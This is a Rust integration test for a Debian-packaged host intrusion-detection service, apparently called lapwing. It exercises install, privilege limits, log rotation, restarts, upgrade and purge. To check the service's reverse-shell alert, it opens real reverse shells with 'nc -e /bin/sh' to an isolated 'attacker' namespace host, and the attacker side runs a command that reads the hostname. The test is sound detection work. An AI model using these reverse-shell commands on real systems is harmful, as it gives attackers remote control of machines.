//! The Debian package, installed on a machine with systemd: from `dpkg -i` to `dpkg --purge`.
//!
//! `cargo xtask test` makes the package and runs this as root. A real reverse shell is opened in the guest, to a host
//! in a network namespace of the guest's.
#![expect(
    clippy::unwrap_used,
    reason = "all of this is test code, and clippy takes only its test functions for such"
)]

/// The machine.
mod guest;

use std::io::{Read as _, Write as _};
use std::path::PathBuf;
use std::process::Stdio;
use std::time::Duration;

use guest::Guest;
use serde_json::Value as Json;

/// Set by `cargo xtask test`: where the package lies.
const PACKAGE: &str = "LAPWING_PACKAGE";
/// How long what is waited for may take: far longer than it does.
const WAIT: Duration = Duration::from_secs(60);
const LOG: &str = "/var/log/lapwing/alerts.ndjson";
const RULE: &str = "Potential Reverse Shell via Suspicious Child Process";
/// The rule id of *Telemetry lost*, which reports the downtime.
const LOST: &str = "Telemetry lost";
/// The capabilities that the service keeps: the bits of CAP_DAC_READ_SEARCH, CAP_SYS_PTRACE, CAP_PERFMON, CAP_BPF.
const CAPABILITIES: u64 = 1 << 2 | 1 << 19 | 1 << 38 | 1 << 39;

#[test]
#[cfg_attr(not(root), ignore = "needs root")]
fn the_service_from_installation_to_purge() {
    let Some(package) = std::env::var_os(PACKAGE).map(PathBuf::from) else {
        println!("skipped: {PACKAGE} names no package, as it does under `cargo xtask test`");
        return;
    };
    let mut guest = Guest::boot(package.parent().unwrap());
    let install = format!("dpkg --install /package/{}", package.file_name().unwrap().to_str().unwrap());

    guest.run(&install);
    it_is_ready(&guest);
    it_has_few_privileges(&guest);
    an_attacker_is_there(&guest);
    a_reverse_shell_is_alerted_to(&guest, 4001, 1);

    nothing_is_missed_while_it_is_started_again(&guest);
    guest.run("systemctl stop lapwing && systemctl start lapwing");
    let reported = alerts(&guest, LOST, 2);
    assert!(reported[1]["event"]["start"].as_str() < reported[1]["event"]["end"].as_str(), "{reported:?}");
    a_reverse_shell_is_alerted_to(&guest, 4002, 4);
    its_log_can_be_rotated(&guest);
    it_is_replaced_when_it_dies_or_hangs(&guest);

    guest.run("sed -i 's/^#level = .*/level = \"debug\"/' /etc/lapwing/lapwing.toml");
    let before = main_pid(&guest);
    guest.run(&install);
    it_is_ready(&guest);
    assert_ne!(main_pid(&guest), before, "an upgrade restarts it");
    guest.run("grep -q '^level = .debug' /etc/lapwing/lapwing.toml");

    an_edited_old_configuration_is_upgraded(&guest, &install);

    guest.reboot();
    guest.until("systemctl is-active lapwing", WAIT);
    an_attacker_is_there(&guest);
    a_reverse_shell_is_alerted_to(&guest, 4003, 2);
    it_stops_cleanly(&guest);
    it_can_be_removed_and_purged(&guest);
}

/// A unit of `Type=notify` is active once it has said that hooks are attached and rules loaded.
fn it_is_ready(guest: &Guest) {
    assert_eq!(guest.run("systemctl is-active lapwing"), "active");
    assert_eq!(guest.run("systemctl is-enabled lapwing"), "enabled");
    let status: Json = serde_json::from_str(&guest.run("lapwing status --json")).unwrap();
    assert!(status["rules"]["enabled"].as_u64().unwrap() >= 7, "{status}");
    assert_eq!(status["rules"]["refused_files"], 0, "{status}");
    guest.run("lapwing check");
    guest.run("lapwing test");
}

fn it_has_few_privileges(guest: &Guest) {
    let pid = main_pid(guest);
    assert_eq!(guest.run(&format!("ps -o user= -p {pid}")), "lapwing");
    for set in ["CapEff", "CapPrm", "CapBnd"] {
        let bits = guest.run(&format!("sed -n 's/^{set}:\\s*//p' /proc/{pid}/status"));
        assert_eq!(u64::from_str_radix(&bits, 16).unwrap(), CAPABILITIES, "{set}");
    }
    assert_eq!(guest.run("stat -c '%U %a' /var/lib/lapwing /var/log/lapwing"), "lapwing 700\nlapwing 750");
    assert_eq!(guest.run("stat -c '%U %a' /etc/lapwing/lapwing.toml"), "root 640");
    guest.run("systemd-analyze security --no-pager --threshold=30 lapwing");
}

/// A host at 10.88.0.2, in a network namespace of the guest's.
fn an_attacker_is_there(guest: &Guest) {
    guest.run(
        "ip netns add attacker
         ip link add toward type veth peer name eth0 netns attacker
         ip address add 10.88.0.1/24 dev toward
         ip link set toward up
         ip -n attacker address add 10.88.0.2/24 dev eth0
         ip -n attacker link set eth0 up
         ip -n attacker link set lo up",
    );
}

/// Opens a reverse shell, uses it, and finds it in the alert log, as alert number `count` there.
fn a_reverse_shell_is_alerted_to(guest: &Guest, port: u16, count: usize) {
    let listen = format!("exec ip netns exec attacker nc -l -p {port}");
    let mut attacker =
        guest.shell(&listen).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("the attacker");
    guest.until(&format!("ip netns exec attacker ss -Hltn 'sport = :{port}' | grep -q ."), WAIT);
    let mut victim =
        guest.shell(&format!("nc -e /bin/sh 10.88.0.2 {port}; true")).spawn().expect("the victim");
    attacker.stdin.take().unwrap().write_all(b"echo $((6 * 7)) on $(cat /etc/hostname); exit\n").unwrap();
    victim.wait().unwrap();
    let mut heard = String::new();
    attacker.stdout.take().unwrap().read_to_string(&mut heard).unwrap();
    attacker.wait().unwrap();
    assert!(heard.starts_with("42 on "), "the attacker has a shell: {heard:?}");

    let alerts = alerts(guest, RULE, count);
    assert_eq!(alerts.len(), count, "{alerts:?}");
    let alert = alerts.last().unwrap();
    assert_eq!(alert["event"]["kind"], "alert", "{alert}");
    assert_eq!(alert["destination"]["ip"], "10.88.0.2", "{alert}");
    assert_eq!(alert["destination"]["port"], port, "{alert}");
    assert_eq!(alert["process"]["args"][1], "-e", "{alert}");
    let hash = guest.run("sha256sum $(readlink -f /bin/nc)");
    assert_eq!(alert["process"]["hash"]["sha256"].as_str(), hash.split(' ').next(), "{alert}");
}

/// A shell that is opened between two runs of the agent is alerted to. Only where the agent was killed there is a time of
/// which something may be missing, and that is reported.
fn nothing_is_missed_while_it_is_started_again(guest: &Guest) {
    // What comes before the agent in its unit runs while there is none.
    guest.run(
        "mkdir -p /run/systemd/system/lapwing.service.d
         cat > /run/systemd/system/lapwing.service.d/between.conf <<'END'
[Service]
RestartSec=100ms
ExecStartPre=+/bin/sh -c '! pgrep -x lapwing && nc -e /bin/true 10.88.0.2 4020; true'
END
         systemctl daemon-reload",
    );
    for (end, alerts_until_then, reported_as_lost) in
        [("systemctl restart lapwing", 2, "0"), ("systemctl kill --signal=KILL lapwing", 3, "1")]
    {
        guest.run(end);
        let reported = alerts(guest, RULE, alerts_until_then);
        let between = &reported[alerts_until_then - 1];
        assert_eq!(between["destination"]["port"], 4020, "{end}: {between}");
        assert_eq!(between["lapwing"]["alert"]["complete"], true, "{end}: {between}");
        let status: Json = serde_json::from_str(&guest.until("lapwing status --json", WAIT)).unwrap();
        let sensor = &status["lanes"][0]["source"];
        assert!(sensor["handover"]["records"].as_u64() > Some(0), "{end}: {sensor}");
        assert_eq!(sensor["handover"]["lost"], 0, "{end}: {sensor}");
        assert_eq!(
            guest.run(&format!("grep --count '{LOST}' {LOG}; true")),
            reported_as_lost,
            "{end}: {sensor}"
        );
    }
    guest.run("rm -r /run/systemd/system/lapwing.service.d && systemctl daemon-reload");
}

/// The alerts of the rule in the log, once there are that many.
fn alerts(guest: &Guest, rule: &str, count: usize) -> Vec<Json> {
    let of_rule = format!("'\"message\":\"{rule}\"' {LOG}");
    guest.until(&format!("test $(grep --count {of_rule}) -ge {count}"), WAIT);
    let lines = guest.run(&format!("grep {of_rule}"));
    lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// As logrotate does it: the file is moved away, and the agent gets SIGHUP.
fn its_log_can_be_rotated(guest: &Guest) {
    let before = main_pid(guest);
    guest.run(&format!("mv {LOG} {LOG}.old && systemctl reload lapwing"));
    guest.until(&format!("test -e {LOG}"), WAIT);
    assert_eq!(guest.run(&format!("stat -c '%U %a' {LOG}")), "lapwing 640");
    a_reverse_shell_is_alerted_to(guest, 4010, 1);
    assert_eq!(main_pid(guest), before, "a reload is no restart");
}

fn it_is_replaced_when_it_dies_or_hangs(guest: &Guest) {
    // So that the test does not take as long as a real watchdog.
    guest.run(
        "mkdir -p /run/systemd/system/lapwing.service.d
         printf '[Service]\\nRestartSec=100ms\\nWatchdogSec=4s\\n' > /run/systemd/system/lapwing.service.d/soon.conf
         systemctl daemon-reload && systemctl restart lapwing",
    );
    for signal in ["KILL", "STOP"] {
        let before = main_pid(guest);
        guest.run(&format!("kill -{signal} {before}"));
        let is_new =
            format!("test $(systemctl show -P MainPID lapwing) != {before} && systemctl is-active lapwing");
        guest.until(&is_new, WAIT);
    }
    guest.run("rm -r /run/systemd/system/lapwing.service.d && systemctl daemon-reload");
}

/// Every key that has a new name, edited under its old one, survives an upgrade: the service runs with the values, and warns.
fn an_edited_old_configuration_is_upgraded(guest: &Guest, install: &str) {
    guest.run(
        "cd /etc/lapwing && cp -p lapwing.toml /root/lapwing.toml && mkdir -p /srv/trail
         sed -i lapwing.toml -e 's/^#learning_period = .*/learn = \"24h\"/' -e 's/^#kernel_filter = .*/filter = false/' \
             -e 's/^#read_from = .*/start = \"now\"/' -e 's/^#rescan_interval = .*/rescan_secs = 1/' \
             -e 's/^#rotate_keep = .*/files_kept = 3/' -e 's!^#folders = .*!folders = [\"/srv/trail\"]!'
         cat >> lapwing.toml <<'END'
[[cloudtrail.queue]]
url = \"https://sqs.eu-central-1.amazonaws.com/111122223333/cloudtrail\"
visibility_timeout_secs = 20
END
         cp lapwing.toml /root/edited.toml",
    );
    guest.run(install);
    it_is_ready(guest);
    guest.run("cmp /etc/lapwing/lapwing.toml /root/edited.toml");
    let pid = main_pid(guest);
    let warnings = guest.run(&format!("journalctl --no-pager -o cat _PID={pid} | grep 'is deprecated: use'"));
    let checked = guest.run("lapwing check | grep 'is deprecated: use'");
    for (old, new) in [
        ("alerts.files_kept", "alerts.rotate_keep"),
        ("cloudtrail.queue.visibility_timeout_secs", "cloudtrail.queue.visibility_timeout"),
        ("cloudtrail.rescan_secs", "cloudtrail.rescan_interval"),
        ("cloudtrail.start", "cloudtrail.read_from"),
        ("rules.learn", "rules.learning_period"),
        ("sensor.filter", "sensor.kernel_filter"),
    ] {
        let warning = format!("`{old}` is deprecated: use `{new}`");
        assert!(warnings.contains(&warning) && checked.contains(&warning), "{warning}: {warnings} {checked}");
    }
    let status: Json = serde_json::from_str(&guest.run("lapwing status --json")).unwrap();
    let lanes = status["lanes"].as_array().unwrap();
    assert_eq!(lanes.len(), 2, "the folder is watched: {status}");
    let records = lanes[0]["source"]["records"].as_array().unwrap();
    assert!(
        records.iter().all(|record| record["filtered_to"].is_null()),
        "no filter in the kernel: {status}"
    );
    guest.run("cp -p /root/lapwing.toml /etc/lapwing/ && systemctl restart lapwing");
}

fn it_stops_cleanly(guest: &Guest) {
    guest.run("systemctl stop lapwing");
    assert_eq!(guest.run("systemctl show -P Result lapwing"), "success");
    assert_eq!(guest.run("systemctl show -P ExecMainStatus lapwing"), "0");
    assert_eq!(guest.run("systemctl is-active lapwing; true"), "inactive");
}

fn it_can_be_removed_and_purged(guest: &Guest) {
    guest.run("systemctl start lapwing && dpkg --remove lapwing");
    assert_eq!(guest.run("pgrep -x lapwing; true"), "");
    guest.run(&format!(
        "test -s {LOG} && test -s /var/lib/lapwing/lapwing.db && test -e /etc/lapwing/lapwing.toml"
    ));
    guest.run("dpkg --purge lapwing");
    for place in
        ["/var/lib/lapwing", "/var/log/lapwing", "/etc/lapwing", "/usr/share/lapwing", "/run/lapwing"]
    {
        guest.run(&format!("test ! -e {place}"));
    }
    assert_eq!(guest.run("systemctl list-unit-files --no-legend 'lapwing*'; true"), "");
}

fn main_pid(guest: &Guest) -> String {
    guest.run("systemctl show -P MainPID lapwing")
}
